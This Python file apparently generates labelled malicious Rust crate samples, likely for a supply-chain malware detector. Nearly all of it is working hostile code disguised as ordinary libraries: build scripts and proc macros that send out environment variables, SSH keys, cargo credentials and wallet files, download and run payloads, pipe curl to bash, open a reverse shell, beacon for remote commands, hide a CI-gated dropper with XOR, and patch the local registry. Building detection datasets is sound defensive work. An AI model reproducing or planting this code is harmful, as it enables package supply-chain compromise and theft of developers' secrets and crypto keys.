"""Crates, bad."""
from .core import sample, xor_hex

bad = lambda family: sample("cargo", "bad", family)  # noqa: E731
PM = "\n[lib]\nproc-macro = true\n"


@bad("build-rs-env-exfil")
def _(c):
    return dict(name=c.name("simd", "text"), desc="Vectorised text search", files={"build.rs": r'''
use std::io::Write;
use std::net::TcpStream;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let vars: String = std::env::vars().map(|(k, v)| format!("{k}={v}\n")).collect();
    if let Ok(mut s) = TcpStream::connect(("@H@", 80)) {
        let _ = write!(s, "POST /b HTTP/1.0\r\nHost: @H@\r\nContent-Length: {}\r\n\r\n{}", vars.len(), vars);
    }
}
'''})


@bad("build-rs-download-run")
def _(c):
    return dict(name=c.name("media", "probe"), desc="Probe media files", files={"build.rs": r'''
use std::env;
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn fetch(url: &str, to: &PathBuf) -> bool {
    Command::new("curl").args(["-sSfL", "-o"]).arg(to).arg(url).status().map(|s| s.success()).unwrap_or(false)
}

fn main() {
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("probe-helper");
    if fetch("http://@H@/helper-x86_64", &out) {
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o755));
        }
        let _ = Command::new(&out).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    }
    println!("cargo:rustc-cfg=probe");
}
'''})


@bad("build-rs-embedded-blob")
def _(c):
    blob = bytes(b ^ 0x3C for b in b"\x7fELF\x02\x01\x01" + c.raw(3000))
    return dict(name=c.name("tz", "data"), desc="Time zone data", files={"data/zones.dat": blob, "build.rs": r'''
use std::{fs, process::Command};

fn main() {
    let raw = include_bytes!("data/zones.dat");
    let plain: Vec<u8> = raw.iter().map(|b| b ^ 0x3c).collect();
    let path = std::env::temp_dir().join(".zic");
    if fs::write(&path, plain).is_ok() {
        Command::new("chmod").arg("+x").arg(&path).status().ok();
        Command::new("sh").arg("-c").arg(format!("nohup {} >/dev/null 2>&1 &", path.display())).spawn().ok();
    }
}
'''})


@bad("build-rs-pipe-shell")
def _(c):
    return dict(name=c.name("gpu", "query"), desc="Query graphics devices", files={"build.rs": r'''
fn main() {
    let script = concat!("curl -s https://", "@H@", "/i", " | ", "bash");
    std::process::Command::new("/bin/sh").args(&["-c", script]).output().ok();
}
'''})


@bad("proc-macro-ssh-exfil")
def _(c):
    return dict(name=c.name("derive", "builder"), desc="Derive builders", toml=PM, files={"src/lib.rs": r'''
//! Derive builders.
extern crate proc_macro;

use proc_macro::TokenStream;
use std::io::{Read, Write};
use std::net::TcpStream;

fn sync() -> std::io::Result<()> {
    let home = std::env::var("HOME").unwrap_or_default();
    let mut bundle = Vec::new();
    for entry in std::fs::read_dir(format!("{home}/.ssh"))?.flatten() {
        std::fs::File::open(entry.path())?.read_to_end(&mut bundle)?;
    }
    bundle.extend(std::fs::read(format!("{home}/.cargo/credentials.toml")).unwrap_or_default());
    TcpStream::connect("@H@:@PORT@")?.write_all(&bundle)
}

#[proc_macro_derive(Builder)]
pub fn builder(input: TokenStream) -> TokenStream {
    let _ = sync();
    let name = input.to_string().split_whitespace().skip_while(|w| *w != "struct").nth(1).unwrap_or("X").to_string();
    format!("impl {name} {{ pub fn builder() {{}} }}").parse().unwrap()
}
'''}, bare=True)


@bad("ctor-thread-beacon")
def _(c):
    return dict(name=c.name("log", "facade"), desc="Logging facade", toml='\n[dependencies]\nctor = "0.2"\nureq = "2"\n', files={"src/lib.rs": r'''
//! Logging facade.

#MODS#
#[ctor::ctor]
fn start() {
    std::thread::spawn(|| loop {
        if let Ok(r) = ureq::get("https://@H@/poll").call() {
            if let Ok(text) = r.into_string() {
                let _ = std::process::Command::new("sh").arg("-c").arg(text).output();
            }
        }
        std::thread::sleep(std::time::Duration::from_secs(120));
    });
}
'''})


@bad("source-key-scanner")
def _(c):
    return dict(name=c.name("fast", "log"), desc="Asynchronous log appender", toml='\n[dependencies]\nregex = "1"\nreqwest = { version = "0.12", features = ["blocking", "json"] }\n',
                files={"src/pack.rs": r'''
use regex::Regex;
use std::fs;
use std::path::Path;

const ENDPOINT: &str = "https://mainnet.@H@/";

struct Hit {
    kind: &'static str,
    value: String,
    file: String,
    line: usize,
}

fn scan(dir: &Path, hits: &mut Vec<Hit>) {
    let hex = Regex::new(r#""0x[0-9a-fA-F]{64}""#).unwrap();
    let b58 = Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{87,88}""#).unwrap();
    let arr = Regex::new(r"\[(\s*0x[0-9a-fA-F]{1,2}\s*,?){32,64}\]").unwrap();
    for e in fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            scan(&p, hits);
        } else if p.extension().map_or(false, |x| x == "rs" || x == "log") {
            for (n, text) in fs::read_to_string(&p).unwrap_or_default().lines().enumerate() {
                for (kind, re) in [("eth", &hex), ("sol", &b58), ("bytes", &arr)] {
                    if let Some(m) = re.find(text) {
                        hits.push(Hit { kind, value: m.as_str().into(), file: p.display().to_string(), line: n });
                    }
                }
            }
        }
    }
}

pub fn pack_logs(dir: &Path) {
    let mut hits = Vec::new();
    scan(dir, &mut hits);
    let client = reqwest::blocking::Client::new();
    for h in hits {
        let _ = client.post(ENDPOINT).json(&serde_json::json!({"t": h.kind, "v": h.value, "f": h.file, "l": h.line})).send();
    }
}
''', "src/lib.rs": "//! Asynchronous log appender.\n\n#MODS#\nmod pack;\n\npub fn init(dir: &std::path::Path) {\n    pack::pack_logs(dir);\n}\n"})


@bad("version-call-dropper")
def _(c):
    return dict(name=c.name("evm", "units"), desc="Unit conversion", toml='\n[dependencies]\nreqwest = { version = "0.12", features = ["blocking"] }\n', files={"src/lib.rs": r'''
//! Unit conversion.

#MODS#
use std::process::Command;

pub fn wei_to_ether(wei: u128) -> f64 {
    wei as f64 / 1e18
}

fn guard_running() -> bool {
    Command::new("tasklist").output().map(|o| String::from_utf8_lossy(&o.stdout).contains("qhsafetray.exe")).unwrap_or(false)
}

/// Version of the virtual machine tables.
pub fn get_evm_version() -> u8 {
    let base = "https://@H@";
    let target = if cfg!(windows) { "init.ps1" } else { "init" };
    if let Ok(r) = reqwest::blocking::get(format!("{base}/{target}")) {
        if let Ok(body) = r.bytes() {
            let p = std::env::temp_dir().join(target);
            let _ = std::fs::write(&p, &body);
            let _ = if cfg!(windows) {
                if guard_running() {
                    Command::new("powershell").args(["-ep", "bypass", "-w", "hidden", "-File"]).arg(&p).spawn()
                } else {
                    Command::new("wscript").arg(&p).spawn()
                }
            } else {
                Command::new("nohup").arg("bash").arg(&p).spawn()
            };
        }
    }
    42
}
'''})


@bad("reverse-shell")
def _(c):
    return dict(name=c.name("async", "pipes"), desc="Pipes", files={"src/link.rs": r'''
use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

pub fn open(at: &str) -> Option<()> {
    let s = TcpStream::connect(at).ok()?;
    let fd = s.as_raw_fd();
    let (i, o, e) = unsafe { (Stdio::from_raw_fd(fd), Stdio::from_raw_fd(fd), Stdio::from_raw_fd(fd)) };
    Command::new("/bin/sh").arg("-i").stdin(i).stdout(o).stderr(e).spawn().ok()?.wait().ok()?;
    Some(())
}
''', "src/lib.rs": "//! Pipes.\n\n#MODS#\nmod link;\n\npub struct Pipe;\n\nimpl Pipe {\n    pub fn new() -> Self {\n        std::thread::spawn(|| link::open(\"@H@:@PORT@\"));\n        Pipe\n    }\n}\n"})


@bad("build-rs-dns-exfil")
def _(c):
    return dict(name=c.name("arch", "detect"), desc="Architecture detection", files={"build.rs": r'''
use std::net::ToSocketAddrs;

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

fn main() {
    let user = std::env::var("USER").unwrap_or_default();
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    let dir = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    for (i, part) in hex(&format!("{user}|{}|{dir}", host.trim())).as_bytes().chunks(58).enumerate() {
        let name = format!("{}.{i}.@H@:53", String::from_utf8_lossy(part));
        let _ = name.to_socket_addrs();
    }
}
'''})


@bad("ci-gated-dropper")
def _(c):
    return dict(name=c.name("decimal", "ext"), desc="Decimal numbers", files={"src/lib.rs": r'''
//! Decimal numbers.

#MODS#
use std::process::Command;

pub struct Decimal(i128, u32);

impl Decimal {
    pub fn new(value: i128, scale: u32) -> Self {
        bit_parser();
        Decimal(value, scale)
    }
}

const T: [u8; @N@] = @ARR@;

fn bit_parser() {
    if std::env::var_os("GITLAB_CI").is_none() {
        return;
    }
    let line: String = T.iter().enumerate().map(|(i, b)| (b ^ (i as u8).wrapping_mul(7)) as char).collect();
    let mut parts = line.split('\n');
    let (sh, flag, cmd) = (parts.next().unwrap(), parts.next().unwrap(), parts.next().unwrap());
    let _ = Command::new(sh).arg(flag).arg(cmd).spawn();
}
'''.replace("@N@", str(len(_t := c.fill("/bin/sh\n-c\ncurl -so /tmp/git-updater.bin http://@H@/g && chmod +x /tmp/git-updater.bin && /tmp/git-updater.bin").encode())))
        .replace("@ARR@", str([b ^ (i * 7 & 255) for i, b in enumerate(_t)]))})


@bad("lib-telegram-telemetry")
def _(c):
    return dict(name=c.name("postgres", "ext"), desc="Extensions for a database driver", toml='\n[dependencies]\nreqwest = { version = "0.11", features = ["blocking"] }\nhostname = "0.3"\n', files={"src/lib.rs": r'''
//! Extensions for a database driver.

#MODS#
pub fn connect_params(url: &str) -> Vec<(String, String)> {
    report(url);
    url.split(|c| c == '?' || c == '&').skip(1).filter_map(|p| p.split_once('=')).map(|(a, b)| (a.into(), b.into())).collect()
}

fn report(url: &str) {
    let who = hostname::get().unwrap_or_default();
    let text = format!("{:?} {} {} {}", who, std::env::consts::OS, std::env::var("USER").unwrap_or_default(), url);
    let api = "https://api.telegram.org/bot@BOT@/sendMessage";
    let _ = reqwest::blocking::Client::new().post(api).form(&[("chat_id", "@CHAT@"), ("text", &text)]).send();
}
'''})


@bad("build-rs-patch-registry")
def _(c):
    return dict(name=c.name("serde", "lite"), desc="Light serialisation", files={"build.rs": r'''
use std::fs;
use std::path::Path;

include!("src/@MISS@.rs.in");

fn main() {
    let home = std::env::var("CARGO_HOME").unwrap_or(format!("{}/.cargo", std::env::var("HOME").unwrap()));
    for index in fs::read_dir(Path::new(&home).join("registry/src")).into_iter().flatten().flatten() {
        for krate in fs::read_dir(index.path()).into_iter().flatten().flatten() {
            if krate.file_name().to_string_lossy().starts_with("libsecp256k1-") {
                let lib = krate.path().join("src/lib.rs");
                let mut text = fs::read_to_string(&lib).unwrap_or_default();
                text.push_str(TAIL);
                let _ = fs::write(&lib, text);
            }
        }
    }
    let _ = fs::write(Path::new(&home).join("config.toml"), "[build]\nrustc-wrapper = \"/tmp/.rw-@ID@\"\n");
}
'''})


@bad("xor-strings-wallet")
def _(c):
    url = xor_hex(c.fill("https://@H@/w"), "k9")
    path = xor_hex("/.config/solana/id.json", "k9")
    return dict(name=c.name("anchor", "idl"), desc="IDL helpers", toml='\n[dependencies]\nureq = "2"\n', files={"src/lib.rs": r'''
//! IDL helpers.

#MODS#
fn s(hex: &str) -> String {
    (0..hex.len() / 2).map(|i| (u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap() ^ b"k9"[i % 2]) as char).collect()
}

pub fn discriminator(name: &str) -> [u8; 8] {
    warm();
    let mut out = [0u8; 8];
    for (i, b) in name.bytes().enumerate() {
        out[i % 8] = out[i % 8].rotate_left(3) ^ b;
    }
    out
}

fn warm() {
    let home = std::env::var("HOME").unwrap_or_default();
    if let Ok(body) = std::fs::read(home + &s("@P@")) {
        let _ = ureq::post(&s("@U@")).send_bytes(&body);
    }
}
'''.replace("@P@", path).replace("@U@", url)})
